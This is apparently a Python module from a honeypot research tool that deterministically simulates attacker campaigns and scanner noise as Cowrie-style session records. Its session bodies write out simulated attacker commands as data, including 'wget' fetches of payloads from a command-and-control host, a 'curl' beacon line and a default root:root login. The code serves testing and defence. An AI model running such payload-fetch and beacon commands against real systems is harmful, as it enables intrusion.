"""Scenario + seed → sessions: pure and deterministic, every choice drawn from one ``Random(seed)``.

The same scenario, seed and base date always give the same sessions; the
wall clock is never read. Source addresses come from 198.18.0.0/15
(`node.simulate.addresses`), start times from `node.simulate.schedule`, and
what each session does from its phase (docs/simulate.md says how each
field of the language turns into events).
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Final

from node.errors import ScenarioError
from node.simulate.addresses import allocate_addresses
from node.simulate.keystrokes import TypingRhythm
from node.simulate.phases import default_commands
from node.simulate.scenario import ALL_HOURS, Actor, Campaign, Phase, Scenario
from node.simulate.schedule import DAY_S, ActiveHours, spread_targets
from node.simulate.session import Command, Download, Login, Recording, Session, TcpProxy
from node.simulate.signals import eui64_link_local, payload_sha256

#: Day 0 of every simulation unless the caller says otherwise.
BASE_TIME: Final = datetime(2026, 3, 2, tzinfo=UTC)
#: The honeypots a session may land on ("a honeypot picked from 20").
HONEYPOTS: Final = tuple(f"decky-{i:02d}" for i in range(1, 21))
#: The login of a session that runs commands when its phase lists no credentials.
DEFAULT_LOGIN: Final = ("root", "root")
#: Most sessions one simulation may ask for (phases' counts plus scanners).
MAX_SESSIONS: Final = 200_000
#: Characters of commands all sessions of a simulation may type together.
MAX_TYPED_CHARS: Final = 50_000_000
#: Pause between the end of one session of a campaign and the next one's earliest start.
_GAP_S: Final = (1.0, 30.0)
#: How far into a later active hour a session may start: anywhere when spreading out,
#: within its first minute when packing sessions as early as they fit.
_SPREAD_ENTRY_S: Final = 3_240.0
_PACKED_ENTRY_S: Final = 60.0
_SCANNER_DWELL_S: Final = 1.0
_TERMINALS: Final = ((80, 24), (120, 40), (160, 48), (211, 55))
#: Public 16-bit ASNs (1..64495) a scanner's is drawn from.
_SCANNER_ASNS: Final = (1, 64495)
_ASN_DRAWS: Final = 64
_EPOCH: Final = datetime(1970, 1, 1, tzinfo=UTC)


@dataclass(frozen=True, slots=True)
class Simulation:
    """A scenario's sessions for one seed, ordered by start time."""

    scenario: str
    seed: int
    sessions: tuple[Session, ...]


def generate(scenario: Scenario, seed: int, base_time: datetime = BASE_TIME) -> Simulation:
    """The sessions of ``scenario`` for ``seed``; day 0 starts at ``base_time`` (UTC-aware)."""
    if base_time.utcoffset() is None:
        raise ValueError("base_time must carry a time zone")
    total = sum(p.target_selector.count for c in scenario.campaigns for p in c.phases) \
        + scenario.noise.scanner_count
    if total > MAX_SESSIONS:
        raise ScenarioError(f"(top level): asks for {total:,} sessions; at most"
                            f" {MAX_SESSIONS:,} per simulation")
    typed = sum(p.target_selector.count * sum(map(len, p.tool_signature.commands or ()))
                for c in scenario.campaigns for p in c.phases)
    if typed > MAX_TYPED_CHARS:  # YAML aliases make a small file type gigabytes
        raise ScenarioError(f"(top level): its sessions would type {typed:,} characters;"
                            f" at most {MAX_TYPED_CHARS:,} per simulation")
    rng = random.Random(seed)
    base_us = (base_time - _EPOCH) // timedelta(microseconds=1)
    actors = [actor for campaign in scenario.campaigns for actor in campaign.actors]
    addresses = allocate_addresses(rng, sum(a.rotation_count for a in actors)
                                   + scenario.noise.scanner_count)
    slots = [(actor.id, slot) for actor in actors for slot in range(actor.rotation_count)]
    pools = dict(zip(slots, addresses, strict=False))
    ids = _SessionIds(rng)
    sessions: list[Session] = []
    for campaign in scenario.campaigns:
        sessions.extend(_campaign_sessions(campaign, rng, pools, ids, base_us))
    sessions.extend(_scanner_sessions(scenario, rng, addresses[len(slots):], ids, base_us))
    sessions.sort(key=lambda s: (s.start_us, s.session_id))
    return Simulation(scenario.name, seed, tuple(sessions))


def _campaign_sessions(campaign: Campaign, rng: random.Random, pools: dict[tuple[str, int], str],
                       ids: _SessionIds, base_us: int) -> list[Session]:
    """Spread out if that fits, else packed (from the same random state), else an error."""
    state = rng.getstate()
    try:
        return _CampaignRun(campaign, rng, pools, ids, base_us).sessions(spread=True)
    except _NoRoom:
        rng.setstate(state)
    try:
        return _CampaignRun(campaign, rng, pools, ids, base_us).sessions(spread=False)
    except _NoRoom as exc:
        actor = campaign.phases[exc.phase].actor
        raise ScenarioError(
            f"{campaign.path}.phases[{exc.phase}]: actor {actor!r} has no active hour left"
            " after the campaign's earlier sessions (phases run in order): check its"
            " hours_active_utc, active_days and start_day, the pause_windows and"
            " duration_days") from None


class _NoRoom(Exception):
    """A phase found no active hour of its actor after the campaign's previous session."""

    def __init__(self, phase: int) -> None:
        super().__init__(phase)
        self.phase = phase


class _SessionIds:
    """Unique Cowrie session ids (12 hex) and recorder sids (32 hex) drawn from the rng."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self._used: set[str] = set()

    def session(self) -> str:
        return self._fresh(48)

    def recording(self) -> str:
        return self._fresh(128)

    def _fresh(self, bits: int) -> str:
        while True:
            value = f"{self._rng.getrandbits(bits):0{bits // 4}x}"
            if value not in self._used:
                self._used.add(value)
                return value


@dataclass
class _CampaignRun:
    """One campaign's timeline: a cursor, each actor's next source address, footholds."""

    campaign: Campaign
    rng: random.Random
    pools: dict[tuple[str, int], str]
    ids: _SessionIds
    base_us: int
    cursor_s: float = 0.0
    sent: dict[str, int] = field(default_factory=dict)
    footholds: dict[str, str] = field(default_factory=dict)
    last_foothold: str | None = None

    def sessions(self, *, spread: bool) -> list[Session]:
        """The campaign's sessions, aimed at spread-out targets or packed as early as they fit.

        Raises `_NoRoom` with the index of the first phase that found no active hour left.
        """
        campaign, rng = self.campaign, self.rng
        total = sum(p.target_selector.count for p in campaign.phases)
        targets = iter(spread_targets(total, campaign.duration_days * DAY_S, rng))
        hours = {a.id: ActiveHours(campaign.days_of(a), a.hours_active_utc)
                 for a in campaign.actors}
        sessions = []
        for index, phase in enumerate(campaign.phases):
            actor = campaign.actor(phase.actor)
            active = hours[actor.id]
            for _ in range(phase.target_selector.count):
                target = next(targets)
                start = None
                if spread:
                    start = active.start_at_or_after(
                        max(self.cursor_s, target), rng, jitter_s=actor.jitter_seconds,
                        entry_s=_SPREAD_ENTRY_S)
                if start is None:
                    start = active.start_at_or_after(self.cursor_s, rng, jitter_s=0.0,
                                                     entry_s=_PACKED_ENTRY_S)
                if start is None:
                    raise _NoRoom(index)
                session = self._session(phase, actor, start)
                self.cursor_s = start + session.duration_s + rng.uniform(*_GAP_S)
                sessions.append(session)
        return sessions

    def _session(self, phase: Phase, actor: Actor, start_s: float) -> Session:
        rng = self.rng
        slot = self.sent.get(actor.id, 0) % actor.rotation_count
        self.sent[actor.id] = self.sent.get(actor.id, 0) + 1
        ip = self.pools[(actor.id, slot)]
        honeypot = self._honeypot(phase, actor)
        body = _body(phase, actor, ip, rng, self.ids)
        return Session(
            identity=actor.id, campaign=self.campaign.id, phase=phase.name, ip=ip,
            asn=actor.asn_of(slot), src_port=rng.randrange(32768, 61000), honeypot=honeypot,
            honeypot_ip=_honeypot_ip(honeypot), session_id=self.ids.session(),
            start_us=self.base_us + int(start_s * 1_000_000), duration_s=body.duration_s,
            ja3=actor.ja3, hassh=actor.hassh, logins=body.logins, commands=body.commands,
            downloads=body.downloads, proxy=body.proxy,
            ipv6_leak=eui64_link_local(phase.ipv6_leak_mac) if phase.ipv6_leak_mac else None,
            recording=body.recording,
        )

    def _honeypot(self, phase: Phase, actor: Actor) -> str:
        """``previous_success``: this actor's last foothold, else the campaign's (a hand-off)."""
        chosen = None
        if phase.target_selector.previous_success:
            chosen = self.footholds.get(actor.id, self.last_foothold)
        if chosen is None:
            chosen = self.rng.choice(HONEYPOTS)
        if phase.leaves_foothold:
            self.footholds[actor.id] = self.last_foothold = chosen
        return chosen


@dataclass(frozen=True, slots=True)
class _Body:
    logins: tuple[Login, ...]
    commands: tuple[Command, ...]
    downloads: tuple[Download, ...]
    proxy: TcpProxy | None
    recording: Recording | None
    duration_s: float


def _body(phase: Phase, actor: Actor, ip: str, rng: random.Random, ids: _SessionIds) -> _Body:
    """What one session of ``phase`` does, and when (offsets from its start)."""
    tool = phase.tool_signature
    lines: list[tuple[str, Download | None]] = []
    if tool.payload_hash is not None:
        sha = payload_sha256(tool.payload_hash)
        url = phase.download_url or f"http://{_netloc(tool.c2_callback or ip)}/{sha[:8]}"
        lines.append((f"wget {url}", Download(url, sha, _basename(url), 0.0)))
    elif phase.download_url is not None:
        lines.append((f"wget {phase.download_url}", None))
    commands = tool.commands if tool.commands is not None \
        else default_commands(phase.name, tool.c2_callback)
    lines.extend((command, None) for command in commands)
    if tool.c2_callback is not None:
        lines.append((f"curl -fsS http://{_netloc(tool.c2_callback)}/beacon", None))
    needs_login = bool(lines) or phase.direct_tcpip is not None
    credentials = tool.credentials or ((DEFAULT_LOGIN,) if needs_login else ())
    outcomes = [needs_login and i == len(credentials) - 1 for i in range(len(credentials))]
    if actor.keystroke_profile is not None and lines:
        return _typed_body(phase, actor.keystroke_profile, credentials, outcomes, lines, rng, ids)
    # Untyped: every step evenly inside the dwell, after the handshake's first tenth.
    steps = len(credentials) + sum(1 + (d is not None) for _, d in lines) \
        + (phase.direct_tcpip is not None)
    dwell = phase.dwell_seconds
    times = iter(dwell * (0.1 + 0.85 * (k + 1) / (steps + 1)) for k in range(steps))
    logins = tuple(Login(user, password, ok, next(times))
                   for (user, password), ok in zip(credentials, outcomes, strict=True))
    done: list[Command] = []
    downloads: list[Download] = []
    for text, download in lines:
        done.append(Command(text, next(times)))
        if download is not None:
            downloads.append(_at(download, next(times)))
    proxy = None
    if phase.direct_tcpip is not None:
        proxy = TcpProxy(*phase.direct_tcpip, next(times))
    return _Body(logins, tuple(done), tuple(downloads), proxy, None, dwell)


def _typed_body(phase: Phase, seed: str, credentials: tuple[tuple[str, str], ...],
                outcomes: list[bool], lines: list[tuple[str, Download | None]],
                rng: random.Random, ids: _SessionIds) -> _Body:
    """A recorded session: logins, then the commands typed in the actor's rhythm."""
    logins = tuple(Login(user, password, ok, 0.3 + 0.6 * k)
                   for k, ((user, password), ok) in enumerate(zip(credentials, outcomes,
                                                                   strict=True)))
    typing_start = 0.3 + 0.6 * len(logins) + 1.0
    typed = TypingRhythm(seed).type_commands(tuple(text for text, _ in lines), typing_start, rng)
    commands = tuple(Command(text, enter) for (text, _), enter in zip(lines, typed.enter_times,
                                                                      strict=True))
    downloads = tuple(_at(d, enter + 0.4) for (_, d), enter in zip(lines, typed.enter_times,
                                                                    strict=True) if d is not None)
    last = typed.enter_times[-1] + 0.5
    proxy = None
    if phase.direct_tcpip is not None:
        proxy = TcpProxy(*phase.direct_tcpip, last)
        last += 0.5
    width, height = rng.choice(_TERMINALS)
    recording = Recording(ids.recording(), width, height, typed.chunks)
    return _Body(logins, commands, downloads, proxy, recording,
                 max(phase.dwell_seconds, last + 0.5))


def _scanner_sessions(scenario: Scenario, rng: random.Random, addresses: list[str],
                      ids: _SessionIds, base_us: int) -> Iterator[Session]:
    """Noise: one short delivery session each, a random ASN, no fingerprints, no commands."""
    taken = {c.id for c in scenario.campaigns} | {a.id for c in scenario.campaigns
                                                  for a in c.actors}
    scenario_asns = {asn for c in scenario.campaigns for a in c.actors
                     for asn in (a.asn, *a.rotation_asns)}
    days = max((c.duration_days for c in scenario.campaigns), default=1)
    anytime = ActiveHours(range(days), ALL_HOURS)
    for number, ip in enumerate(addresses, 1):
        name = f"scanner-{number:03d}"
        while name in taken:
            name = f"noise-{name}"
        taken.add(name)
        asn = rng.randint(*_SCANNER_ASNS)
        for _ in range(_ASN_DRAWS):  # bounded: a scenario may claim every ASN
            if asn not in scenario_asns:
                break
            asn = rng.randint(*_SCANNER_ASNS)
        honeypot = rng.choice(HONEYPOTS)
        yield Session(
            identity=name, campaign=name, phase="delivery", ip=ip, asn=asn,
            src_port=rng.randrange(32768, 61000), honeypot=honeypot,
            honeypot_ip=_honeypot_ip(honeypot), session_id=ids.session(),
            start_us=base_us + int(anytime.any_start(rng) * 1_000_000),
            duration_s=_SCANNER_DWELL_S,
        )


def _at(download: Download, offset_s: float) -> Download:
    return Download(download.url, download.sha256, download.destfile, offset_s)


def _honeypot_ip(honeypot: str) -> str:
    return f"10.0.0.{10 + HONEYPOTS.index(honeypot)}"


def _netloc(host: str) -> str:
    return f"[{host}]" if ":" in host else host


def _basename(url: str) -> str:
    name = url.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1]
    return name if name and "." not in name[:1] and ":" not in name else "payload"
